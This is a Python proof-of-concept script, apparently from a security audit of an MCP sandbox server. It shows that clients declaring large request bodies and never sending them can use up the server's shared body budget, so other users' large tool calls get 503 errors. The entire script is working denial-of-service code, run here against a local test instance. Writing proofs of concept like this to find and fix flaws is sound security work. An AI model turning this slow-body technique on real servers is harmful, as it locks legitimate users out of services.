#!/usr/bin/env python3
"""atk39 F4: serve --http's request-body budget (64 MiB, each body charged 4x its declared
Content-Length past 64 KiB) is charged up front from the DECLARED length and shared first come:
one client with four connections that each declare a 4 MiB body and send none of it holds the
whole budget for the body timeout (30 s), renewable at will; every other client's call with a
body over 64 KiB (a long script, write_file) is refused 503 the whole time. Needs setup.sh and the image."""
import os, sys, json, socket, subprocess, time, http.client
TOKEN = open("/tmp/atk39/tok").read().strip(); PORT = 18766
srv = subprocess.Popen(["/tmp/atk39/mcpsandbox", "serve", "--policy", "/tmp/atk39/http1.toml", "--http", "127.0.0.1:%d" % PORT,
                        "--token-file", "/tmp/atk39/tok"], env={"HOME": "/tmp/atk39/home", "PATH": "/usr/bin:/bin"},
                       stderr=open("/tmp/atk39/f4.serve.log", "wb"))
time.sleep(1.5)
H = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", "Authorization": "Bearer " + TOKEN}
def init():
    c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=60)
    c.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}}), H)
    r = c.getresponse(); r.read(); sid = r.getheader("Mcp-Session-Id")
    c.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}), dict(H, **{"Mcp-Session-Id": sid}))
    r = c.getresponse(); r.read()
    return c, sid
vc, vsid = init()
script = "echo victim ran; : '" + "x" * 200000 + "'"
def victim(label):
    t = time.time()
    vc.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "run_shell_sandbox", "arguments": {"script": script}}}), dict(H, **{"Mcp-Session-Id": vsid}))
    r = vc.getresponse(); body = r.read().decode(errors="replace")
    print("%s: HTTP %d in %.2fs %s" % (label, r.status, time.time() - t, ("victim ran" in body and "(ran)") or body.strip()[:160]))
victim("victim's 200 KB call, before")
_, asid = init()
held = []
def declare(n):  # declare an n-byte body, send none of it; kept if serve did not refuse it at once
    s = socket.create_connection(("127.0.0.1", PORT))
    s.sendall(("POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
               "Authorization: Bearer %s\r\nMcp-Session-Id: %s\r\nContent-Length: %d\r\n\r\n" % (TOKEN, asid, n)).encode())
    s.settimeout(0.3)
    try:
        if s.recv(100): s.close(); return False   # 503: does not fit
    except socket.timeout:
        pass
    held.append(s); return True
for n in [4 << 20] * 6 + [1 << 20] * 4 + [256 << 10] * 4 + [128 << 10] * 4 + [80 << 10] * 4:
    declare(n)
print("attacker holds %d connections with declared, unsent bodies" % len(held))
time.sleep(1)
for k in range(3):
    victim("victim's 200 KB call, attacker holding its unsent bodies, try %d" % k)
    time.sleep(5)
for s in held: s.close()
time.sleep(1)
victim("victim's 200 KB call, after the attacker closed")
srv.terminate(); srv.wait()
